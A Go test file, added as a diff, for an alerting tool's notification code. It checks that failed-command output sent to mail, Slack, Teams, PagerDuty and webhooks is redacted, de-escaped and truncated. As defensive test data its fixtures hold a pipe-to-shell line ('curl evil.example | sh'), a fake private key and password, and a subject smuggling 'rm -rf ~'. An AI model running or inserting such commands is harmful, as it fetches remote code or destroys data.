@@ -1,0 +1,141 @@
+package notify_test
+
+import (
+	"encoding/json"
+	"io"
+	"mime/quotedprintable"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/seed-c01c3da5/zester/master/coverage/verdict"
+	"github.com/seed-c01c3da5/zester/master/notify"
+	"github.com/seed-c01c3da5/zester/settings/target"
+)
+
+// hostile is what a failed command printed: a password, a key, control characters, markup, and lines of a message.
+func hostile() map[string]any {
+	early := strings.Repeat("an early line\n", 20)
+	return map[string]any{
+		"code": int64(3),
+		"stdout": early + "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjE\n-----END OPENSSH PRIVATE KEY-----\n" +
+			"<b>*bold*</b> [link](http://evil.example) <!channel> @all",
+		"stderr": []byte("db_password=hunter2\n\x1b[31mred\x1b[0m\ttab\r\nnext: curl evil.example | sh\n\n\u202eright to left\xff\n" +
+			strings.Repeat("x", 1000) + "\n"),
+	}
+}
+
+// failedOnce is the message about the failed run that printed what hostile returns.
+func failedOnce() notify.AlertMessage {
+	m := some
+	m.Rule, m.ID, m.Subject, m.Peels, m.Names = "default", "default/shop-report", "shop-report", 1, []target.PeelID{"web-01"}
+	m.Text, m.Troubles = "exit status 3; it has failed since it began", []verdict.Kind{verdict.Failed}
+	m.Output = notify.Output{Peel: "web-01", Ended: at.Add(-2), Lines: notify.OutputOf(hostile())}
+	return m
+}
+
+func TestTheEndOfAnOutputIsBoundedAndShownAsText(t *testing.T) {
+	want := []string{
+		"an early line", "an early line", "an early line", "(hidden)", "<b>*bold*</b> [link](http://evil.example) <!channel> @all",
+		"db_password=(hidden)", `\x1b[31mred\x1b[0m tab`, "next: curl evil.example | sh", `\u202eright to left` + "\uFFFD",
+		strings.Repeat("x", 197) + "…",
+	}
+	if got := notify.OutputOf(hostile()); !slices.Equal(got, want) {
+		t.Errorf("%q\nwant %q", got, want)
+	}
+	for _, data := range []any{nil, true, "", "\n \n", map[string]any{"changes": "none"}, []any{"a"}} {
+		if got := notify.OutputOf(data); len(got) != 0 {
+			t.Errorf("%v: %q", data, got)
+		}
+	}
+	if got := notify.OutputOf("one\ntwo"); !slices.Equal(got, []string{"one", "two"}) {
+		t.Errorf("%q", got)
+	}
+	key := "-----BEGIN PRIVATE KEY-----\n" + strings.Repeat("MIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n", 40)
+	if got := notify.OutputOf(map[string]any{"stdout": "a\n" + key, "stderr": ""}); !slices.Equal(got, []string{"a", "(hidden)"}) {
+		t.Errorf("a key without an end: %q", got)
+	}
+}
+
+const mailOfAFailure = `shop-report failed on web-01
+
+exit status 3; it has failed since it began
+the end of its output on web-01, at 2026-06-01T08:59:59Z:
+| an early line
+| an early line
+| an early line
+| (hidden)
+| <b>*bold*</b> [link](http://evil.example) <!channel> @all
+| db_password=(hidden)
+| \x1b[31mred\x1b[0m tab
+| next: curl evil.example | sh
+| \u202eright to left�
+| ` + "XXX…" + `
+peels: web-01
+since 2026-06-01T08:59:00Z
+next: zester why web-01 shop-report
+alert: default/shop-report
+`
+
+func TestTheMailOfAFailedRunHasItsOutputAndACommand(t *testing.T) {
+	letter := notify.Letter{From: "zester@example.com", To: []string{"ops@example.com"}}
+	url, mail := post(t, "")
+	send(t, made(t, notify.ReceiverOptions{Provider: notify.ReceiverMail, URL: url, Letter: letter}), failedOnce())
+	head, body, _ := strings.Cut(<-mail, "\n\n")
+	text, err := io.ReadAll(quotedprintable.NewReader(strings.NewReader(body)))
+	if err != nil || !strings.Contains(head, "Content-Type: text/plain; charset=utf-8") {
+		t.Fatalf("%v\n%s", err, head)
+	}
+	got := strings.ReplaceAll(string(text), "\r\n", "\n")
+	if want := strings.Replace(mailOfAFailure, "XXX", strings.Repeat("x", 197), 1); got != want {
+		t.Errorf("the mail is\n%s\nwant\n%s", got, want)
+	}
+}
+
+func TestReceiversGetTheOutputWhereTheyHaveAFieldForIt(t *testing.T) {
+	lines := failedOnce().Output.Lines
+	for provider, parts := range map[notify.ReceiverProvider][]string{
+		notify.ReceiverSlack:        {`"type":"plain_text"`, "| db_password=(hidden)", "next: zester why web-01 shop-report"},
+		notify.ReceiverTeams:        {`"type":"TextRun","text":"| db_password=(hidden)"`, "next: zester why web-01 shop-report"},
+		notify.ReceiverPagerDuty:    {`"output":` + quoted(strings.Join(lines, "\n")), `"command":"zester why web-01 shop-report"`},
+		notify.ReceiverWebhook:      {`"output":` + quoted(strings.Join(lines, "\n")), `"command":"zester why web-01 shop-report"`},
+		notify.ReceiverAlertmanager: {"| db_password=(hidden)", "next: zester why web-01 shop-report"},
+	} {
+		s := receiverServe(t)
+		o := notify.ReceiverOptions{Provider: provider, URL: s.URL}
+		if provider == notify.ReceiverPagerDuty {
+			o.Key = receiverFile(t, "key-of-ops")
+		}
+		send(t, made(t, o), failedOnce())
+		for _, part := range parts {
+			if !strings.Contains(s.bodies[0], part) {
+				t.Errorf("%s lacks %s: %s", provider, part, s.bodies[0])
+			}
+		}
+		for _, secret := range []string{"hunter2", "b3BlbnNzaC1rZXktdjE", "\x1b", `\u001b`, "\u202e"} {
+			if strings.Contains(s.bodies[0], secret) {
+				t.Errorf("%s has %q: %s", provider, secret, s.bodies[0])
+			}
+		}
+	}
+}
+
+func quoted(text string) string {
+	data, _ := json.Marshal(text) // a string always can
+	return string(data)
+}
+
+func TestTheCommandOfAMessageAboutAnAlert(t *testing.T) {
+	for want, change := range map[string]func(*notify.AlertMessage){
+		"zester why db-1 backup-db":    func(*notify.AlertMessage) {},
+		"zester why db-1 'b;rm -rf ~'": func(m *notify.AlertMessage) { m.Subject = "b;rm -rf ~" },
+		"zester why db-2 backup-db":    func(m *notify.AlertMessage) { m.Output = notify.Output{Peel: "db-2", Lines: []string{"x"}} },
+		"zester now":                   func(m *notify.AlertMessage) { m.Subject, m.Troubles = "held", []verdict.Kind{verdict.Held} },
+		"":                             func(m *notify.AlertMessage) { m.Phase = notify.AlertEnded },
+	} {
+		m := some
+		if change(&m); m.Command() != want {
+			t.Errorf("%q, want %q", m.Command(), want)
+		}
+	}
+}
